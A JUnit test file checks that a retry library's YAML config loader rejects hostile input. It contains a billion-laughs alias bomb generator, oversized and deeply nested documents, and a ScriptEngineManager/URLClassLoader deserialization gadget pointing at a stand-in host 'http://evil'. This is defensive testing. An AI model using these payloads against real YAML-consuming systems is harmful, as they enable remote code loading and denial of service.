package dev.llmretry.internal.config;

import dev.llmretry.config.LlmRetryConfigException;

import static dev.llmretry.internal.config.ConfigFixtures.fails;
import static dev.llmretry.internal.config.ConfigFixtures.parse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Hostile or odd YAML is refused quickly with a config error; nothing is constructed from tags. */
class YamlSafetyTest {
    private static final Duration QUICKLY = Duration.ofSeconds(5);

    private static String laughs(int levels, int width) {
        StringBuilder yaml = new StringBuilder("l0: &l0 [lol]\n");
        for (int level = 1; level <= levels; level++) {
            yaml.append("l").append(level).append(": &l").append(level).append(" [");
            for (int i = 0; i < width; i++) yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
            yaml.append("]\n");
        }
        return yaml.toString();
    }

    @Test
    void billionLaughs_load_refusedForTooManyAliases() {
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY, () -> fails(laughs(9, 9)));
        assertEquals("retry.yaml: invalid YAML: more than 50 aliases (*name) to maps or lists; a retry.yaml needs only a few",
                e.getMessage());
    }

    @Test
    void aliasExpansionUnderTheLimit_load_neverExpanded() {
        String yaml = "classification:\n  retry:\n    status: &s0 [500]\n" + laughs(24, 2).replace("l0: &l0 [lol]\n", "")
                .replace("*l0", "*s0").replaceAll("(?m)^l(\\d+):", "  x$1:");
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY, () -> fails(yaml));
        assertTrue(e.getMessage().startsWith("retry.yaml has 24 problems:"), e.getMessage());
    }

    @Test
    void hugeDocument_load_refusedBeforeParsing() {
        String yaml = "endpoints: { iag: { url: https://iag.example, model: \"" + "x".repeat(4 * 1024 * 1024) + "\" } }";
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY, () -> fails(yaml));
        assertEquals("retry.yaml: the file is larger than 3145728 characters; a retry.yaml is a few kilobytes", e.getMessage());
    }

    @Test
    void deepNesting_load_refused() {
        String yaml = "retry: " + "[".repeat(100_000);
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY, () -> fails(yaml));
        assertEquals("retry.yaml: invalid YAML: nested deeper than 20 levels", e.getMessage());
    }

    @Test
    void globalJavaTag_load_refusedWithoutConstructingAnything() {
        LlmRetryConfigException e = fails("retry:\n  default: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]\n");
        assertEquals("retry.yaml: line 2, column 12: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager",
                e.getMessage());
    }

    @Test
    void localTag_load_refusedAsWrongType() {
        assertEquals("retry.yaml: retry.default.max-attempts was a value tagged !env, must be an integer >= 1",
                fails("retry: { default: { max-attempts: !env N } }").getMessage());
        assertEquals("retry.yaml: endpoints.iag.model was a value tagged tag:yaml.org,2002:binary, must be text",
                fails("endpoints: { iag: { url: https://iag.example, model: !!binary aGk= } }").getMessage());
    }

    @Test
    void standardTags_load_accepted() {
        assertEquals(3, parse("retry: { default: { max-attempts: !!int 3 } }").retryPolicy("default").maxAttempts());
        assertEquals("0123", parse("endpoints: { iag: { url: https://iag.example, model: !!str 0123 } }")
                .endpoint("iag").orElseThrow().model());
    }

    @Test
    void numberLikeText_load_keptAsWritten() {
        EndpointSettings iag = parse("endpoints: { iag: { url: https://iag.example, api-key: 0123, model: 1.10 } }")
                .endpoint("iag").orElseThrow();
        assertEquals("0123", iag.apiKey(), "not read as the octal number 83");
        assertEquals("1.10", iag.model(), "not read as the number 1.1");
    }

    @Test
    void complexKey_load_refused() {
        assertEquals("retry.yaml: retry has a key that is a list (line 2); keys must be plain text",
                fails("retry:\n  ? [a, b]\n  : { max-attempts: 2 }\n").getMessage());
    }

    @Test
    void recursiveList_load_refusedAsWrongTypeWithoutLooping() {
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY,
                () -> fails("classification: { retry: { status: &s [425, *s] } }"));
        assertEquals("retry.yaml: classification.retry.status[1] was a list, must be an HTTP status code from 100 to 599",
                e.getMessage());
    }

    @Test
    void mergeIntoItself_load_refusedWithoutLooping() {
        LlmRetryConfigException e = assertTimeoutPreemptively(QUICKLY,
                () -> fails("retry: { default: &d { <<: *d, max-attempts: 2 } }"));
        assertEquals("retry.yaml: retry.default.<< merges (<<) a map into itself", e.getMessage());
    }

    @Test
    void mergeKeys_load_shareEndpointSettings_explicitKeysWin() {
        LlmRetryConfig config = parse("endpoints:\n"
                + "  iag: &common { url: https://iag.example/v1, model: gpt-4o, proxy: { http: http://proxy:8080 } }\n"
                + "  oneapi: { <<: *common, url: https://oneapi.example/v1 }\n");
        EndpointSettings oneapi = config.endpoint("oneapi").orElseThrow();
        assertEquals("https://oneapi.example/v1", oneapi.url());
        assertEquals("gpt-4o", oneapi.model());
        assertEquals("http://proxy:8080", oneapi.proxy().http().toString());
        assertEquals(List.of("iag", "oneapi"), List.copyOf(config.endpoints().keySet()));
    }

    @Test
    void mergeOfNonMap_load_refused() {
        assertEquals("retry.yaml: retry.default.<< was 3, must be a map or a list of maps (like *base)",
                fails("retry: { default: { <<: 3 } }").getMessage());
    }

    @Test
    void byteOrderMark_load_ignored() {
        assertEquals(2, parse("\uFEFFretry: { default: { max-attempts: 2 } }").retryPolicy("default").maxAttempts());
    }
}
